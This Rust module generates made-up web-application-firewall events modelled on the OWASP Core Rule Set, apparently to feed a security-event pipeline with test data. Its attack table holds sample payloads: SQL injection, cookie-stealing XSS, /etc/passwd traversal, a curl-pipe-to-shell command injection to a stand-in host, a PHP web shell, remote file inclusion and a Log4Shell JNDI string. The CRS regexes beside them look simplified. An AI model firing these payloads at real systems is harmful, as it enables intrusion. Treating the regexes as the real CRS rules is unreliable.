//! Made-up security events that look like those of a public shop with the Core Rule Set.

use chrono::{DateTime, Utc};
use parapet_event::{
    Action, AttackClass, Finding, Origin, RequestSummary, ScoreEntry, SecurityEvent, Severity, Track, TrackReason,
};
use std::sync::LazyLock;
use std::sync::atomic::{AtomicU64, Ordering};
use ulid::Ulid;

/// Hash of the made-up policy.
pub(crate) const POLICY: &str = "9f2c41d07be85a63";
/// Names of the made-up sites.
pub(crate) const SITES: [&str; 3] = ["shop", "api", "intranet"];

const BROWSER: &str = "Mozilla/5.0 (X11; Linux x86_64; rv:145.0) Gecko/20100101 Firefox/145.0";
const SCRIPT: &str = "python-requests/2.32.3";
const SQLMAP: &str = "sqlmap/1.9.2#stable (https://sqlmap.org)";

static INSTANCE: LazyLock<Ulid> = LazyLock::new(Ulid::generate);
static SEQUENCE: AtomicU64 = AtomicU64::new(1);

/// One kind of attack: how often, the request, and the rules that match in it.
struct Attack {
    weight: u32,
    method: &'static str,
    uri: &'static str,
    agent: &'static str,
    severity: u8,
    rules: &'static [Rule],
}

/// Rule id, message, variable, matched text, operator, points.
type Rule = (u32, &'static str, &'static str, &'static str, &'static str, i64);

const ATTACKS: &[Attack] = &[
    Attack {
        weight: 14,
        method: "GET",
        uri: "/search?q=1%27%20OR%20%271%27%3D%271%27%20--",
        agent: SCRIPT,
        severity: 88,
        rules: &[
            (942_100, "SQL Injection Attack Detected via libinjection", "ARGS:q", "1' OR '1'='1' --", "@detectSQLi", 5),
            (
                942_130,
                "SQL Injection Attack: SQL Boolean-based attack detected",
                "ARGS:q",
                "1' OR '1'='1",
                "@rx (?i)[\\s'\"`()]*?\\b([\\d\\w]+)\\b",
                5,
            ),
            (942_390, "SQL Injection Attack", "ARGS:q", "' OR '1'", "@rx (?i:\\b(?:x?or|div|like)\\b)", 5),
        ],
    },
    Attack {
        weight: 6,
        method: "POST",
        uri: "/account/login",
        agent: BROWSER,
        severity: 91,
        rules: &[
            (
                942_100,
                "SQL Injection Attack Detected via libinjection",
                "ARGS:json.user",
                "admin' UNION SELECT password FROM users--",
                "@detectSQLi",
                5,
            ),
            (
                942_190,
                "Detects MSSQL code execution and information gathering attempts",
                "ARGS:json.user",
                "UNION SELECT password",
                "@rx (?i)union.*select",
                5,
            ),
        ],
    },
    Attack {
        weight: 13,
        method: "GET",
        uri: "/product/42?ref=%3Cscript%3Ealert(document.cookie)%3C/script%3E",
        agent: BROWSER,
        severity: 82,
        rules: &[
            (
                941_100,
                "XSS Attack Detected via libinjection",
                "ARGS:ref",
                "<script>alert(document.cookie)</script>",
                "@detectXSS",
                5,
            ),
            (
                941_110,
                "XSS Filter - Category 1: Script Tag Vector",
                "ARGS:ref",
                "<script>",
                "@rx (?i)<script[^>]*>[\\s\\S]*?",
                5,
            ),
            (941_390, "Javascript method detected", "ARGS:ref", "alert(", "@rx (?i)\\b(?:eval|alert|prompt)\\s*\\(", 5),
        ],
    },
    Attack {
        weight: 9,
        method: "GET",
        uri: "/download?file=../../../../etc/passwd",
        agent: SCRIPT,
        severity: 84,
        rules: &[
            (
                930_100,
                "Path Traversal Attack (/../) or (/.../)",
                "REQUEST_URI_RAW",
                "/../",
                "@rx (?i)(?:[/\\x5c]|%2f)\\.{2,3}",
                5,
            ),
            (930_120, "OS File Access Attempt", "ARGS:file", "etc/passwd", "@pmFromFile lfi-os-files.data", 5),
            (
                932_160,
                "Remote Command Execution: Unix Shell Code Found",
                "ARGS:file",
                "etc/passwd",
                "@pmFromFile unix-shell.data",
                5,
            ),
        ],
    },
    Attack {
        weight: 7,
        method: "POST",
        uri: "/api/v2/export",
        agent: SCRIPT,
        severity: 95,
        rules: &[
            (
                932_130,
                "Remote Command Execution: Unix Shell Expression Found",
                "ARGS:format",
                "$(curl http://198.51.100.9/x|sh)",
                "@rx \\$(?:\\((?:.*|\\(.*\\))\\))",
                5,
            ),
            (
                932_235,
                "Remote Command Execution: Unix Command Injection (command without evasion)",
                "ARGS:format",
                "curl http",
                "@rx (?i)(?:b[\\\"'\\)\\[\\x5c]*)",
                5,
            ),
        ],
    },
    Attack {
        weight: 18,
        method: "GET",
        uri: "/wp-login.php",
        agent: SQLMAP,
        severity: 35,
        rules: &[(
            913_100,
            "Found User-Agent associated with security scanner",
            "REQUEST_HEADERS:User-Agent",
            "sqlmap",
            "@pmFromFile scanners-user-agents.data",
            5,
        )],
    },
    Attack {
        weight: 10,
        method: "GET",
        uri: "/index.php?page=http://203.0.113.66/shell.txt%3F",
        agent: SCRIPT,
        severity: 66,
        rules: &[(
            931_100,
            "Possible Remote File Inclusion (RFI) Attack: URL Parameter using IP Address",
            "ARGS:page",
            "http://203.0.113.66",
            "@rx (?i)^(file|ftps?|https?)://(?:\\d{1,3}\\.){3}\\d{1,3}",
            5,
        )],
    },
    Attack {
        weight: 20,
        method: "GET",
        uri: "/",
        agent: "",
        severity: 22,
        rules: &[(
            920_350,
            "Host header is a numeric IP address",
            "REQUEST_HEADERS:Host",
            "192.0.2.10",
            "@rx (?:^([\\d.]+|\\[[\\da-f:]+\\]))",
            3,
        )],
    },
    Attack {
        weight: 6,
        method: "POST",
        uri: "/upload.php",
        agent: SCRIPT,
        severity: 71,
        rules: &[
            (
                933_100,
                "PHP Injection Attack: PHP Open Tag Found",
                "ARGS:body",
                "<?php system($_GET['c']); ?>",
                "@rx (?i)<\\?(?:[^x]|x[^m])",
                5,
            ),
            (
                933_150,
                "PHP Injection Attack: High-Risk PHP Function Name Found",
                "ARGS:body",
                "system",
                "@pmFromFile php-function-names-933150.data",
                5,
            ),
        ],
    },
    Attack {
        weight: 4,
        method: "GET",
        uri: "/?x=${jndi:ldap://198.51.100.23/a}",
        agent: "${jndi:ldap://198.51.100.23/a}",
        severity: 97,
        rules: &[(
            944_150,
            "Potential Remote Command Execution: Log4j / Log4shell",
            "REQUEST_HEADERS:User-Agent",
            "${jndi:ldap:",
            "@rx (?i)(?:\\$|&dollar;?)(?:\\{|&l(?:brace|cub);?)",
            5,
        )],
    },
    Attack {
        weight: 3,
        method: "GET",
        uri: "/reports/2026",
        agent: BROWSER,
        severity: 58,
        rules: &[(
            951_220,
            "mssql SQL Information Leakage",
            "RESPONSE_BODY",
            "Unclosed quotation mark after the character string",
            "@rx (?i:System\\.Data\\.OleDb)",
            4,
        )],
    },
    // Cannot be parsed as HTTP at all.
    Attack {
        weight: 4,
        method: "",
        uri: "",
        agent: "",
        severity: 48,
        rules: &[(
            0,
            "Both Content-Length and Transfer-Encoding are present",
            "REQUEST_HEADERS",
            "Transfer-Encoding: chunked, Content-Length: 5",
            "",
            0,
        )],
    },
];

/// Few addresses send most attacks.
const CLIENTS: [&str; 12] = [
    "203.0.113.7",
    "203.0.113.7",
    "203.0.113.7",
    "203.0.113.91",
    "198.51.100.23",
    "198.51.100.23",
    "198.51.100.140",
    "192.0.2.55",
    "192.0.2.201",
    "2001:db8:4:1::17",
    "2001:db8:9::a",
    "203.0.113.180",
];

/// A random event that happened at `timestamp`.
pub(crate) fn event(timestamp: DateTime<Utc>) -> SecurityEvent {
    let attack = pick();
    let parsed = !attack.method.is_empty();
    let site = SITES[[0, 0, 0, 1, 1, 2][rand::random_range(0..6)]];
    let findings: Vec<Finding> = attack.rules.iter().map(finding).collect();
    let points: i64 = findings.iter().map(Finding::points).sum();
    let outbound = attack.rules[0].0 / 1000 == 951;
    let action = match (parsed, points >= 5) {
        (false, _) => Action::Rejected,
        (true, true) if site != "intranet" => Action::Blocked,
        (true, _) => Action::Detected,
    };
    let leading = attack.rules[0].0;
    let (track, reason) = classify(leading, attack.severity);
    SecurityEvent {
        schema: SecurityEvent::SCHEMA,
        id: Ulid::from_datetime(timestamp.into()),
        timestamp,
        origin: Origin::new(*INSTANCE, 0, SEQUENCE.fetch_add(1, Ordering::Relaxed)),
        site: site.to_owned(),
        client_ip: CLIENTS[rand::random_range(0..CLIENTS.len())].parse().unwrap_or([192, 0, 2, 1].into()),
        client_port: rand::random_range(20_000..60_000),
        request: if parsed { request(attack, site) } else { RequestSummary::default() },
        status: match action {
            Action::Blocked => 403,
            Action::Rejected => 400,
            Action::Detected => 200,
        },
        action,
        severity: Severity::new(attack.severity + rand::random_range(0..4)),
        rule_id: parsed.then(|| leading.to_string()),
        attack_type: AttackClass::of_rule(if parsed { leading } else { 920_000 }),
        inbound_score: if outbound { 0 } else { points.unsigned_abs() as u32 },
        outbound_score: if outbound { points.unsigned_abs() as u32 } else { 0 },
        inbound_threshold: 5,
        paranoia_level: 1,
        findings,
        policy: POLICY.to_owned(),
        track: Some(track),
        track_reason: Some(reason),
    }
}

fn pick() -> &'static Attack {
    let total: u32 = ATTACKS.iter().map(|attack| attack.weight).sum();
    let mut at = rand::random_range(0..total);
    for attack in ATTACKS {
        if at < attack.weight {
            return attack;
        }
        at -= attack.weight;
    }
    &ATTACKS[0]
}

/// The order of the router: severity, scanner, critical family, everything else.
fn classify(rule: u32, severity: u8) -> (Track, TrackReason) {
    match rule / 1000 {
        _ if severity >= 80 => (Track::RealTime, TrackReason::CriticalSeverity(severity)),
        913 => (Track::Analytics, TrackReason::ScannerRule(rule)),
        930 | 932 | 941 | 942 => (Track::RealTime, TrackReason::CriticalRule(rule)),
        _ => (Track::Analytics, TrackReason::Default),
    }
}

fn request(attack: &Attack, site: &str) -> RequestSummary {
    let host = format!("{site}.example.com");
    let header = |name: &str, value: &str| (name.into(), value.into());
    let mut headers = vec![header("Host", &host)];
    if !attack.agent.is_empty() {
        headers.push(header("User-Agent", attack.agent));
    }
    headers.push(header("Accept", "*/*"));
    headers.push(header("Cookie", "[redacted]"));
    RequestSummary {
        method: attack.method.to_owned(),
        uri: attack.uri.to_owned(),
        protocol: "HTTP/1.1".to_owned(),
        host,
        user_agent: attack.agent.to_owned(),
        headers,
        body_bytes: if attack.method == "POST" { rand::random_range(60..4_000) } else { 0 },
    }
}

fn finding(rule: &Rule) -> Finding {
    let (rule_id, message, variable, matched, operator, points) = *rule;
    let class = AttackClass::of_rule(rule_id).map_or("generic", AttackClass::as_str);
    let score = if rule_id / 1000 == 951 { "outbound_anomaly_score_pl1" } else { "inbound_anomaly_score_pl1" };
    Finding {
        rule_id,
        phase: if variable.starts_with("RESPONSE") { 4 } else { 2 },
        message: message.to_owned(),
        data: format!("Matched Data: {matched} found within {variable}"),
        tags: vec![
            "application-multi".into(),
            "language-multi".into(),
            format!("attack-{class}").into(),
            "paranoia-level/1".into(),
            "OWASP_CRS".into(),
        ],
        rule_severity: (rule_id > 0).then_some(if points >= 5 { 2 } else { 4 }),
        variable: variable.to_owned(),
        matched: matched.to_owned(),
        operator: operator.to_owned(),
        scores: if points > 0 { vec![ScoreEntry { score: score.to_owned(), points }] } else { Vec::new() },
        file: if rule_id > 0 { format!("REQUEST-{}-APPLICATION-ATTACK.conf", rule_id / 1000) } else { String::new() },
        line: if rule_id > 0 { rule_id % 1000 } else { 0 },
    }
}
